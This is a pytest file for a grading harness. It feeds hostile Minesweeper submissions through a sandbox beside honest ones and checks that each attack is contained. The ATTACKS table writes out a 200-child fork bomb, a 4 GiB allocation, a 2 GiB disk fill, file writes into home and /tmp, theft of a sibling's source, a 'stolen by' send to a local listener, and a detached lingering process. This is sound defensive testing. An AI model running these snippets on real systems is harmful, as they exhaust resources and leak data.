"""A hostile class: submissions that attack the teacher's machine, graded beside honest ones.

Each hostile submission does one thing a course's worst submission does, at every start, and otherwise plays
Minesweeper honestly (the monolith): it forks two hundred sleeping children; allocates 4 GiB; writes files
outside its folder (its home, /tmp, its own folder, the class folder, the teacher's home); reads a sibling
submission and prints it; opens a TCP connection to a listener this test starts on 127.0.0.1; fills the disk
with a 2 GiB file; keeps running (and leaves a detached child) after its output is complete. After grading:
no file outside the sandbox, the sibling's text in no report, the listener got nothing, no process left,
every finding one line, and the honest submissions graded exactly as when they are graded alone.

Limits first: before any hostile program runs, the test checks that the limits hold here (an allocation of
1 GiB and a 128 MiB file are refused), so that even without bubblewrap they could not exhaust this machine.
"""

from __future__ import annotations

import csv
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from shared_tests.harness import process, sandbox
from shared_tests.harness.targets import ROOT, base_environment
from shared_tests.tests.submissions import student_monolith

pytestmark = pytest.mark.skipif(sandbox.unavailable() is not None, reason=f"no sandbox: {sandbox.unavailable()}")
DEADLINE = "10"
PLAY = (  # after its attack, a hostile submission plays the game honestly: the monolith, copied beside it
    "import runpy, sys\nsys.path.insert(0, HERE)\nrunpy.run_module('game', run_name='__main__', alter_sys=True)\n"
)
ATTACKS = {
    "forks": (
        "import os, time\nfor _ in range(200):\n    if os.fork() == 0:\n        time.sleep(30)\n        os._exit(0)\n"
    ),
    "allocates": "hoard = b'x' * (4 << 30)\n",
    "writes-outside": (
        "import os\n"
        "for folder in (os.path.expanduser('~'), '/tmp', HERE, CLASS, TEACHER_HOME):\n"
        "    try:\n"
        "        with open(os.path.join(folder, 'escaped-' + TOKEN), 'w') as handle:\n"
        "            handle.write('I was here')\n"
        "    except OSError:\n"
        "        pass\n"
    ),
    "reads-a-sibling": (
        "import glob, os, sys\n"
        "places = [os.path.join(CLASS, '*', '*', '*.py'), os.path.join(os.path.dirname(HERE), '*', '*', '*.py')]\n"
        "for pattern in places:\n"
        "    for path in glob.glob(pattern):\n"
        "        if not path.startswith(HERE):\n"
        "            text = open(path, errors='replace').read()\n"
        "            sys.stdout.write(text)\n"
        "            sys.stderr.write(text)\n"
    ),
    "phones-home": (
        "import socket\n"
        "try:\n"
        "    with socket.create_connection(('127.0.0.1', PORT), timeout=2) as line:\n"
        "        line.sendall(('stolen by ' + TOKEN).encode())\n"
        "except OSError:\n"
        "    pass\n"
    ),
    "fills-the-disk": (
        "with open('filler.bin', 'wb') as handle:\n    for _ in range(2048):\n        handle.write(b'x' * (1 << 20))\n"
    ),
    "lingers": (  # plays first, then a detached child, and no exit
        "import atexit, os, subprocess, sys, time\n"
        "def linger():\n"
        "    sys.stdout.flush()\n"
        "    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', 'linger-' + TOKEN],\n"
        "                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
        "                     stderr=subprocess.DEVNULL)\n"
        "    time.sleep(120)\n"
        "atexit.register(linger)\n"
    ),
}
FINDINGS = {  # what each hostile submission must get: not graded, with this one-line reason, or its score
    "forks": "started more than 128 processes (or threads) (the grader's limit)",
    "allocates": f"used more than {sandbox.Limits().memory // sandbox.MiB} MiB of memory (the grader's limit)",
    "fills-the-disk": "wrote a file of more than 64 MiB (the grader's limit)",
    "lingers": "no answer within 10 s after 2 frames",
}
CONTAINED = ("writes-outside", "reads-a-sibling", "phones-home")  # contained by the sandbox: graded in full


def limits_hold() -> str | None:
    """None when the limits refuse a 1 GiB allocation and a 128 MiB file here (without any sandbox)."""
    limits = sandbox.Sandbox((), sandbox.Limits(), isolate=False)
    for code in ("hoard = b'x' * (1 << 30)", "open('big', 'wb').write(b'x' * (128 << 20))"):
        result = process.run_in_folder(list(limits.command([sys.executable, "-c", code])), b"", base_environment(), 60)
        if result.exit is not None or not (result.problem or "").endswith(sandbox.LIMIT):
            return f"{code!r} was not refused ({result.exit}, {result.problem})"
    return None


def honest(folder: Path, secret: str, wide: bool = False) -> None:
    main = student_monolith(folder, "game")
    source = main.read_text(encoding="utf-8")
    if wide:
        source = source.replace("width = max(4 * columns - 1, len(message))", "width = max(4 * columns, len(message))")
    main.write_text(f"{source}# {secret}\n", encoding="utf-8")
    (folder / "run").write_text(f"run: PYTHONPATH=. {sys.executable} -m game\n", encoding="utf-8")


def hostile(folder: Path, attack: str, values: dict[str, object]) -> None:
    student_monolith(folder, "game")
    head = "import os\nHERE = os.path.dirname(os.path.realpath(__file__))\n"
    head += "".join(f"{name} = {value!r}\n" for name, value in values.items())
    (folder / "attack.py").write_text(head + ATTACKS[attack] + PLAY, encoding="utf-8")
    (folder / "run").write_text(f"run: {sys.executable} attack.py\n", encoding="utf-8")


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever connects to it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.got: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.got.append(connection.recv(4096) or b"(connected)")
                except OSError:
                    self.got.append(b"(connected)")

    def close(self) -> None:
        self.running = False
        self.thread.join(5)
        self.server.close()


def grade_class(folder: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "shared_tests.grade", "--class", str(folder), "--jobs", "2", "--deadline", DEADLINE],
        cwd=ROOT, capture_output=True, text=True, timeout=1200,
    )  # fmt: skip


def rows(folder: Path) -> dict[str, dict[str, str]]:
    with (folder / "grades.csv").open(newline="", encoding="utf-8-sig") as handle:
        return {row["submission"]: row for row in csv.DictReader(handle)}


@pytest.mark.heavy
def test_a_hostile_class_is_contained_and_the_honest_are_graded_as_if_alone(tmp_path: Path) -> None:
    refused = limits_hold()
    if refused:
        pytest.skip(f"the limits do not hold here, so no hostile program runs: {refused}")
    token = f"hostile{os.getpid()}x{time.monotonic_ns()}"
    secret = f"SECRET-{token}"
    course, alone = tmp_path / "class", tmp_path / "alone"
    teacher_home = os.path.realpath(os.path.expanduser("~"))
    listener = Listener()
    try:
        honest(course / "honest-ana", secret)
        for folder in (course, alone):  # ben is graded alone too: his grades must not change in this class
            honest(folder / "honest-ben", secret, wide=True)
        values = {"TOKEN": token, "CLASS": str(course), "PORT": listener.port, "TEACHER_HOME": teacher_home}
        for attack in ATTACKS:
            hostile(course / f"{attack}-{token}", attack, values)
        started = time.monotonic()
        done = grade_class(course)
        seconds = time.monotonic() - started
        time.sleep(1.0)  # let whatever a hostile program might have left behind show itself
        listing = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout.splitlines()
        left = [line for line in listing if token in line and not line.startswith("ps ")]
    finally:
        listener.close()
    assert done.returncode == 1, done.stdout + done.stderr  # four hostile submissions could not be graded
    assert "Traceback" not in done.stderr, done.stderr
    graded = rows(course)
    by_attack = {name.removesuffix(f"-{token}"): row for name, row in graded.items()}
    print(f"\nthe hostile class in {seconds:.0f} s:")
    for name, row in sorted(by_attack.items()):
        print(f"  {name:<16} {row['score']:>6} / {row['out of']}  {row['not graded because'] or row['first cause']}")
    assert by_attack["honest-ana"]["score"] == "100" and by_attack["honest-ana"]["graded"] == "yes"
    for attack, finding in FINDINGS.items():
        row = by_attack[attack]
        assert row["graded"] == "no" and finding in row["not graded because"], (attack, row)
    for attack in CONTAINED:
        assert by_attack[attack]["score"] == "100", (attack, by_attack[attack])  # contained: honest otherwise
    assert not listener.got, "the listener got a connection"
    assert not left, f"processes left behind: {left}"
    escaped = [
        path
        for folder in (Path(teacher_home), Path("/tmp"), Path(tempfile.gettempdir()), course)
        for path in folder.glob(f"**/escaped-{token}" if folder == course else f"escaped-{token}")
    ]
    assert not escaped, f"files written outside the sandbox: {escaped}"
    for report in (course / "reports").iterdir():
        assert secret not in report.read_text(encoding="utf-8", errors="replace"), f"{report.name} has the secret"
    assert secret not in (course / "grades.csv").read_text(encoding="utf-8-sig")
    for attack in FINDINGS:  # one finding, on one line
        text = (course / "reports" / f"{attack}-{token}.txt").read_text(encoding="utf-8")
        problem = text.split("The program could not be graded:\n", 1)[1].split("\n\n", 1)[0]
        assert len(problem.strip().splitlines()) == 1, (attack, problem)
    done_alone = grade_class(alone)
    assert done_alone.returncode == 0, done_alone.stdout + done_alone.stderr
    for name, row in rows(alone).items():
        assert graded[name] == row, (name, graded[name], row)  # the same grades, section by section
